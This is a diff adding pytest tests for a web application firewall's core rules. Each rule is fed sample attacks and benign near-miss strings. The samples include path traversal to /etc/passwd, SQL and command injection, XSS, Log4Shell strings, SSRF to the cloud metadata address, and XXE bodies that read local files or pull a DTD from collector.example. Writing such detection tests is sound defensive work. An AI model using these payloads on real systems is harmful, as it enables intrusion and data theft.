@@ -1,0 +1,112 @@
+"""Each rule of the core pack has attacks that it sees and near misses that it lets pass."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from urllib.parse import quote
+
+import pytest
+from engine import Engine
+from messages import Message, get, post
+from rule_sets import core
+
+FORM = "application/x-www-form-urlencoded"
+VERDICT, SET_UP = 10900, {10000, 10001, 10002}
+ATTACKS: Mapping[int, tuple[bytes, ...]] = {
+    10102: (b"a\0b",),
+    10103: (b"x\r\nSet-Cookie: a=b", b"x\nLocation: http://collector.example"),
+    10200: (b"../../a", b"..\\..\\a", b"\xc0\xae\xc0\xae/a", b"..%252f..%252fa"),
+    10201: (b"/etc/passwd", b"C:\\windows\\x", b"/x/.git/config", b"/proc/self/environ"),
+    10202: (b"..\xc1\x9cetc\xc1\x9cpasswd", b"..0x5cwindows0x5csystem32", b"..%bg%qfboot.ini"),
+    10203: (b"..0x2f..0x2fa", b"..\xc1\x1c..\xc1\x1ca", b"\xc0\x5e\xc0\x5e/a"),
+    10300: (b"1' or '1'='1", b"x' union select 1,2--"),
+    10301: (b"1 UNION ALL SELECT 2", b"1;select pg_sleep(9)", b"select @@version"),
+    10302: (b" OR 1=0", b"x and 3=3", b"' || 'a"),
+    10400: (b"<img src=x onerror=alert(1)>",),
+    10401: (b"<script>alert(1)</script>", b"javascript:alert(1)", b"<b onauxclick=x>"),
+    10500: (b";cat /etc/hostname", b"|whoami", b"`id`", b"$(echo a)", b"&& dir C:\\", b";env;"),
+    10501: (b"() { :;}; echo a",),
+    10502: (b"${jndi:ldap://a/b}", b"${${a:-j}${b:-n}di:x}", b"${\\u006andi:a}"),
+    10503: (b"<?php echo 1;", b"eval('a')", b"{{7*7}}", b"phpinfo()", b"$_GET['a']"),
+    10504: (b"a$IFS$9b", b"a${#b}", b"$((2*21))"),
+    10600: (b"http://169.254.169.254/", b"php://filter/a", b"http://localhost:8080/", b"file:///a"),
+}
+"""Each as an argument of a form."""
+NEAR: Mapping[int, tuple[str, ...]] = {
+    10103: ("a\r\nb: c", "Location: Berlin"),
+    10200: ("wait... / what", "1../2", "a..b/c"),
+    10201: ("see etc/passwords.md", "windows and doors", "a.gitignore"),
+    10202: ("etc. and hosts", "windows for system32 engineers", "reboot.ini"),
+    10203: ("well.. ok / fine", "really?? / yes", "Àé.. où ça"),
+    10300: ("O'Brien's and Smith's", "it's 1 or 2"),
+    10301: ("the union selects a new board", "I sleep (a lot)", "select a user"),
+    10302: ("1 or 2 = both", "where is it?", "this || that", "order by phone"),
+    10401: ("JavaScript: an introduction", "a < script", "look on=off"),
+    10500: ("cats & dogs", "salt;pepper;cat;ears", "Smith & Echo Ltd", "A & NC - B"),
+    10502: ("${HOME} costs $5", "${PORT:-8080}"),
+    10503: ("evaluate (this)", "our system (the band)", "{{ name }}"),
+    10504: ("costs $(5)", "(IFS) standards"),
+    10600: ("data: see below", "the file: a", "https://example.org/localhost"),
+}
+
+
+@pytest.fixture(scope="module")
+def engine() -> Engine:
+    return Engine(core(), block=True)
+
+
+def form(value: bytes) -> Message:
+    return post("/notes", FORM, b"text=" + quote(value).encode())
+
+
+@pytest.mark.parametrize("rule", ATTACKS)
+def test_a_rule_sees_its_attacks(engine: Engine, rule: int) -> None:
+    for attack in ATTACKS[rule]:
+        found = engine.ask(form(attack))
+        assert found.blocked, attack
+        assert rule in found.rules, (attack, found)
+
+
+@pytest.mark.parametrize("rule", NEAR)
+def test_a_rule_lets_near_misses_pass(engine: Engine, rule: int) -> None:
+    for text in NEAR[rule]:
+        found = engine.ask(form(text.encode()))
+        assert rule not in found.rules, (text, found)
+
+
+def test_rules_about_the_message_itself_see_theirs(engine: Engine) -> None:
+    for text in ("..%2f", "%00"):
+        assert engine.ask(get(f"/a/{text}..%2fb")).blocked
+    broken = engine.ask(post("/", "application/json", b'{"a":'))
+    assert (broken.status, broken.rules[0]) == (400, 10100)
+    control = engine.ask(Message(b"GET", b"/", ((b"host", b"a"), (b"x", b"a\rb"))))
+    assert control.rules == (10101, VERDICT)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>',
+        b'<!DOCTYPE a SYSTEM "http://collector.example/a.dtd"><a/>',
+        b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///a"/></a>',
+        b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-',
+        "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>".encode("utf-16"),
+    ],
+)
+def test_entities_in_xml_are_seen(engine: Engine, body: bytes) -> None:
+    found = engine.ask(post("/", "application/xml", body))
+    assert found.blocked
+    assert {10410, 10100} & set(found.rules), found
+
+
+def test_plain_xml_passes(engine: Engine) -> None:
+    for body in (b"<a><include name='b'/></a>", b'<?xml version="1.0"?><!DOCTYPE html><html/>'):
+        found = engine.ask(post("/", "text/xml", body))
+        assert not found.blocked, (body, found)
+
+
+def test_every_rule_is_tested() -> None:
+    from ostiary_guard import waf  # noqa: PLC0415  it is not everywhere
+
+    every = {rule["id"] for rule in waf.RuleSet(core=True).rules}
+    assert every == {*ATTACKS, *SET_UP, VERDICT, 10100, 10101, 10410}
